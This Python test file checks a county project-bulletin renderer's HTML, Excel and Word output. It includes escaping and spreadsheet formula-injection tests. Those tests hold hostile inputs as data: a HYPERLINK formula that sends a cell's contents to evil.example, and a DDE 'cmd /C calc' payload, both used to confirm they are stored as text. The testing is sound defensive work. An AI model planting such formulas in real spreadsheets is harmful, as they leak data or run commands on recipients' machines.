"""The three documents carry the figures: HTML text, the workbook read back with openpyxl, the DOCX with python-docx."""
from __future__ import annotations

import io
from decimal import Decimal

from docx import Document
from openpyxl import load_workbook

from services.escalation.bulletin.render_docx import render_docx
from services.escalation.bulletin.render_html import render_html
from services.escalation.bulletin.render_xlsx import render_xlsx
from services.escalation.bulletin.sections import sections

from .test_bulletin_figures import figures


def test_html_has_title_headline_and_every_section() -> None:
    f = figures()
    html = render_html(f, revision=2)
    assert f.title in html and "第 2 版" in html
    assert f"{f.start_rate.percent}%" in html and f"{f.start_forecast.percent}%" in html
    for section in sections(f):
        assert section.title in html
    assert "<td>项目p04</td>" in html and ">121<" in html  # the idle parcel and its days


def test_html_escapes_names() -> None:
    f = figures()
    from dataclasses import replace

    html = render_html(replace(f, county_name="<script>西湖区"))
    assert "<script>西湖区" not in html and "&lt;script&gt;西湖区" in html


def test_xlsx_has_one_sheet_per_section_and_numbers_as_numbers() -> None:
    f = figures()
    book = load_workbook(io.BytesIO(render_xlsx(f)))
    assert len(book.sheetnames) == len(sections(f))
    rates = book[book.sheetnames[1]]
    start = next(row for row in rates.iter_rows(min_row=3, values_only=True) if row[0] == "开工率")
    assert start[1:4] == (f.start_rate.planned, f.start_rate.done, Decimal(f.start_rate.percent))
    assert isinstance(start[1], int) and isinstance(start[3], int | float)
    money = book[book.sheetnames[2]]
    plan_wan, ytd_wan = list(money.iter_rows(min_row=3, max_row=3, values_only=True))[0][:2]
    assert (plan_wan, ytd_wan) == (f.investment.annual_plan_fen / 1_000_000, f.investment.ytd_fen / 1_000_000)
    idle = book[book.sheetnames[4]]
    assert [row[4] for row in idle.iter_rows(min_row=3, values_only=True)] == [121]


def test_docx_has_the_figures_in_its_tables() -> None:
    f = figures()
    document = Document(io.BytesIO(render_docx(f)))
    text = "\n".join(p.text for p in document.paragraphs)
    assert f.title in text and f"开工率：{f.start_rate.percent}%" in text
    cells = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
    assert {f.start_rate.percent, f.letters.percent, "项目p04", "121", "自然资源局"} <= cells
    assert len(document.tables) == sum(1 for s in sections(f) if s.rows)


def test_xlsx_writes_county_text_that_looks_like_a_formula_as_text() -> None:
    from dataclasses import replace

    f = figures()
    injected = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    parcels = (replace(f.idle_parcels[0], name=injected, parcel="=cmd|' /C calc'!A0"), *f.idle_parcels[1:])
    book = load_workbook(io.BytesIO(render_xlsx(replace(f, idle_parcels=parcels))))
    idle = book[book.sheetnames[4]]
    cells = list(idle.iter_rows(min_row=3, max_row=3))[0]
    assert (cells[0].value, cells[0].data_type) == (injected, "s")
    assert (cells[1].value, cells[1].data_type) == ("=cmd|' /C calc'!A0", "s")
    assert (cells[4].value, cells[4].data_type) == (121, "n")  # numbers stay numbers


def _sheet(book: object, title: str) -> object:
    return book[next(name for name in book.sheetnames if title in name)]  # type: ignore[attr-defined, index]


def test_the_problem_list_sections_in_every_document() -> None:
    f = figures()
    html = render_html(f)
    for title in ("问题清单办理情况", "会议交办事项落实率（承办部门）", "超过3个月未解决的问题", "交办事项落实率 = "):
        assert title in html
    assert "<td>问题q1：用地方面的困难</td>" in html and ">40.0<" in html
    book = load_workbook(io.BytesIO(render_xlsx(f)))
    problems = _sheet(book, "问题清单办理情况")
    assert list(problems.iter_rows(min_row=3, max_row=3, values_only=True))[0] == ("合计", "全部", 3, 2, 2, 1)
    delivery = _sheet(book, "会议交办事项落实率")
    rows = list(delivery.iter_rows(min_row=3, max_row=6, values_only=True))
    assert rows[0] == ("合计", 5, 2, 1, 2, 40) and rows[2][0] == "自然资源局" and rows[2][5] == float(Decimal("33.3"))
    assert all(cell.data_type == "n" for row in delivery.iter_rows(min_row=3, max_row=6, min_col=2) for cell in row)
    long = _sheet(book, "超过3个月未解决的问题")
    assert [row[:2] + row[6:] for row in long.iter_rows(min_row=3, max_row=4, values_only=True)] == [
        ("项目p01", "用地", 4, 140, 5), ("项目p06", "征迁", 3, 93, 0)]
    document = Document(io.BytesIO(render_docx(f)))
    cells = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
    assert {"问题q5：征迁方面的困难", "调度会议定", "33.3", "100.0", "140"} <= cells
    headings = [p.text for p in document.paragraphs]
    assert any(h.endswith("超过3个月未解决的问题") for h in headings) and "会议交办事项落实率：40.0%" in headings


def test_a_problem_written_like_a_formula_stays_text() -> None:
    from dataclasses import replace

    f = figures()
    injected = "=1+2 资金未到位"
    long = replace(f.long_open, problems=(replace(f.long_open.problems[0], description=injected), *f.long_open.problems[1:]))
    book = load_workbook(io.BytesIO(render_xlsx(replace(f, long_open=long))))
    cells = list(_sheet(book, "超过3个月未解决的问题").iter_rows(min_row=3, max_row=3))[0]
    assert (cells[2].value, cells[2].data_type) == (injected, "s")
    assert (cells[7].value, cells[7].data_type) == (140, "n")
